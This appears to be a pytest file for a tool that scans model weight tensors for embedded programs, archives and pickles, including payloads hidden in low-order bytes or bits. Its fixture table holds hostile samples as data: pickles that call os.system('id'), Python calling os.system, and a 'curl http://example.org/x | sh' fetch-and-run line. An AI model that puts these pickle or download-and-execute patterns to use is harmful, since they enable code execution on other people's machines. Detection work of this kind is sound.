"""Weights: what hides among numbers is found wherever it lies, and ordinary numbers of every kind raise no alarm."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.core.errors import FormatError
from assay.formats.budget import Budget, Limits
from assay.formats.source import Memory
from assay.formats.view import Member, Tensor
from assay.scan.weights import Weights

COUNT = 1 << 17
CODE = np.random.default_rng(1).bytes(400)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(40) + bytes(range(256)) * 8


def _zip() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("run.py", "import os")
    return stream.getvalue()


PAYLOADS = {
    "an ELF program": ELF,
    "a Windows program": b"MZ\x90\x00" + bytes(56) + struct.pack("<I", 128) + bytes(64) + b"PE\x00\x00" + CODE,
    "a zip": _zip(),
    "a gzip stream": gzip.compress(bytes(range(256)) * 4, mtime=0),
    "a 7z archive": b"7z\xbc\xaf\x27\x1c\x00\x04" + CODE,
    "an xz stream": b"\xfd7zXZ\x00\x00\x04" + CODE,
    "a script": b"#!/bin/sh\ntouch /tmp/x\n\x00",
    "a pickle": b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.",
    "a pickle of protocol 2": b"\x80\x02cposix\nsystem\nX\x02\x00\x00\x00id\x85R.",
    "a pickle of protocol 0": b"cos\nsystem\n(S'id'\ntR.",
    "text that holds Python that calls os.system": b'\x00\nimport os\nos.system("touch /tmp/owned")\n\x00',
    "text that holds a shell line that runs what it downloads": b"\x00curl http://example.org/x | sh\n\x00",
}


def noise(dtype: str) -> bytes:
    """Numbers as trained weights have them."""
    random = np.random.default_rng(7)
    ordinary = random.standard_normal(COUNT) * 0.02
    match dtype:
        case "bfloat16":
            return (ordinary.astype("<f4").view("<u4") >> 16).astype("<u2").tobytes()
        case "int8":
            return np.clip(ordinary * 2000, -127, 127).astype("i1").tobytes()
        case "uint8" | "Q4_0":
            return random.bytes(COUNT)
        case _:
            return ordinary.astype("<" + {"float64": "f8", "float32": "f4", "float16": "f2"}[dtype]).tobytes()


def examined(data: bytes, dtype: str = "float32", *, big_endian: bool = False) -> tuple[Weights, list[Member]]:
    """All that is seen in one tensor."""
    weights = Weights([Tensor("t", dtype, (1,), Memory(data), 1000, big_endian)], Budget())
    return weights, list(weights.members())


@pytest.mark.parametrize("dtype", ["float64", "float32", "float16", "bfloat16", "int8", "uint8", "Q4_0"])
def test_ordinary_numbers_raise_no_alarm(dtype: str) -> None:
    """Nothing is found, nothing is to be inspected, every byte was looked at."""
    data = noise(dtype)
    weights, members = examined(data, dtype)
    assert (weights.found, weights.hidden, weights.broken, members, weights.size) == ([], [], [], [], len(data))


@pytest.mark.parametrize("what", PAYLOADS)
@pytest.mark.parametrize("dtype", ["float32", "float16", "bfloat16", "uint8", "Q4_0"])
def test_a_payload_is_found_at_any_place(what: str, dtype: str) -> None:
    """At odd and even offsets, at the start and in the middle, where it is told in bytes of the file."""
    for place in (0, 4096, 90_001):
        data = bytearray(noise(dtype))
        data[place : place + len(PAYLOADS[what])] = PAYLOADS[what]
        weights, members = examined(bytes(data), dtype)
        found = [one for one in weights.found if one.payload.what == what.partition(" of protocol")[0]]
        inside = PAYLOADS[what].find(
            b"import" if "Python" in what else b"curl" if "shell" in what else PAYLOADS[what][:2]
        )
        assert any(abs(one.payload.offset - place - inside) < 8 for one in found), place
        assert found[0].offset == 1000 + found[0].payload.offset
        assert members


@pytest.mark.parametrize("count", [1, 2, 3])
@pytest.mark.parametrize("what", ["an ELF program", "a zip", "a pickle"])
def test_a_payload_in_the_lowest_bytes_is_found(what: str, count: int) -> None:
    """EvilModel writes into the lowest bytes of each number of a layer and leaves the highest."""
    rows = np.frombuffer(noise("float32"), np.uint8).reshape(-1, 4).copy()
    payload = np.frombuffer(PAYLOADS[what] + bytes(-len(PAYLOADS[what]) % count), np.uint8).reshape(-1, count)
    for written in (payload, payload[:, ::-1]):
        changed = rows.copy()
        changed[: len(payload), :count] = written
        weights, _ = examined(changed.tobytes())
        assert [(hidden.what, hidden.bits, hidden.sure) for hidden in weights.hidden] == [(what, 8 * count, True)]


def test_a_payload_in_the_lowest_bit_is_found() -> None:
    """One bit of each number, in either order of the bits."""
    rows = np.frombuffer(noise("float32"), np.uint8).reshape(-1, 4).copy()
    for order in ("big", "little"):
        bits = np.unpackbits(np.frombuffer(PAYLOADS["a pickle"], np.uint8), bitorder=order)  # type: ignore[arg-type]
        rows[: len(bits), 0] = rows[: len(bits), 0] & 254 | bits
        weights, _ = examined(rows.tobytes())
        assert [(hidden.what, hidden.bits) for hidden in weights.hidden] == [("a pickle", 1)]


def test_low_bytes_of_low_entropy_among_noise_are_told() -> None:
    """A program without a beginning, in the middle of a tensor: unsure, and said so."""
    rows = np.frombuffer(noise("float32") * 2, np.uint8).reshape(-1, 4).copy()
    code = np.random.default_rng(3).choice(np.arange(40, 160, dtype=np.uint8) * 1, 40_000)
    rows[60_000:100_000, 0] = np.where(np.arange(40_000) % 3, code, 0)
    weights, _ = examined(rows.tobytes())
    assert [(hidden.what, hidden.sure) for hidden in weights.hidden] == [("", False)]
    assert weights.hidden[0].entropy < 7


ORDINARY = {
    "counting up": np.arange(COUNT, dtype="<f4"),
    "an even ramp": np.linspace(0, 1, COUNT, dtype="<f4"),
    "neighbours": (np.arange(COUNT, dtype="<u4") + 0x3F800000).view("<f4"),
    "a wave": np.sin(np.arange(COUNT)).astype("<f4"),
    "quantised and back": (np.random.default_rng(0).integers(-127, 128, COUNT) * 0.00731).astype("<f4"),
    "converted from half": np.frombuffer(noise("float16"), "<f2").astype("<f4"),
    "half zeros": np.concatenate([np.frombuffer(noise("float32"), "<f4"), np.zeros(COUNT, "<f4")]),
    "a mask of the smallest": np.where(np.tri(300) > 0, 0, np.finfo("<f4").min).astype("<f4"),
    "one value": np.full(COUNT, 0.5, "<f4"),
}


@pytest.mark.parametrize("name", ORDINARY)
def test_numbers_that_are_no_noise_are_no_payload(name: str) -> None:
    """Tables, masks, quantised and converted numbers are as ordinary as trained ones."""
    weights, members = examined(ORDINARY[name].tobytes())
    assert (weights.found, weights.hidden, members) == ([], [], [])


def test_bytes_that_count_up_are_no_text() -> None:
    """A lookup table passes through all letters; a padding of one letter is none."""
    for data in (bytes(range(256)) * 100, b"w" * 5000, np.arange(9000, dtype="<i4").tobytes()):
        assert examined(data, "uint8")[1] == []


def test_strings_are_what_arrays_of_strings_are_for() -> None:
    """Their text is not inspected; a program among them is found."""
    data = b"some harmless label of a class\x00\x00" * 200
    assert examined(data, "S32")[1] == []
    assert [found.payload.what for found in examined(data + ELF, "S32")[0].found] == ["an ELF program"]


@pytest.mark.parametrize("dtype", ["float64", "float32", "float16"])
@pytest.mark.parametrize("big_endian", [False, True])
def test_values_that_are_no_numbers_are_counted(dtype: str, big_endian: bool) -> None:
    """Exactly, with those of either sign."""
    values = np.frombuffer(noise(dtype), "<" + {"float64": "f8", "float32": "f4", "float16": "f2"}[dtype]).copy()
    values[[3, 50_000]] = np.nan
    values[[7, 9, 100_000]] = -np.inf
    data = values.astype(values.dtype.newbyteorder(">")).tobytes() if big_endian else values.tobytes()
    weights, _ = examined(data, dtype, big_endian=big_endian)
    assert [(broken.nan, broken.infinite, broken.elements) for broken in weights.broken] == [(2, 3, COUNT)]


def test_a_tensor_of_bytes_that_is_a_pickle_is_known_as_whole() -> None:
    """Corpus t10, and Transformer Engine's extra state: told apart from a payload amid numbers."""
    weights, members = examined(PAYLOADS["a pickle"], "uint8")
    assert [found.whole for found in weights.found] == [True]
    assert [(member.expected, member.offset) for member in members] == [(("pickle",), 1000)]


def test_many_payloads_are_told_by_the_first() -> None:
    """A tensor of nothing but programs does not flood the report."""
    assert len(examined(ELF * 100, "uint8")[1]) <= 16


def test_time_is_bounded() -> None:
    """The limit is met between two pieces."""
    ticks = iter(range(10_000))
    weights = Weights(
        [Tensor("t", "uint8", (1,), Memory(bytes(8 << 20)), 0)], Budget(Limits(seconds=3), clock=lambda: next(ticks))
    )
    with pytest.raises(FormatError, match="LIMIT seconds"):
        list(weights.members())


@given(st.binary(max_size=300), st.sampled_from(["float32", "float16", "bfloat16", "complex64", "uint8", "Q8_0"]))
def test_it_ends_on_any_bytes(data: bytes, dtype: str) -> None:
    """Whatever the bytes and their type."""
    for order in (False, True):
        assert all(member.source.size <= len(data) for member in examined(data, dtype, big_endian=order)[1])
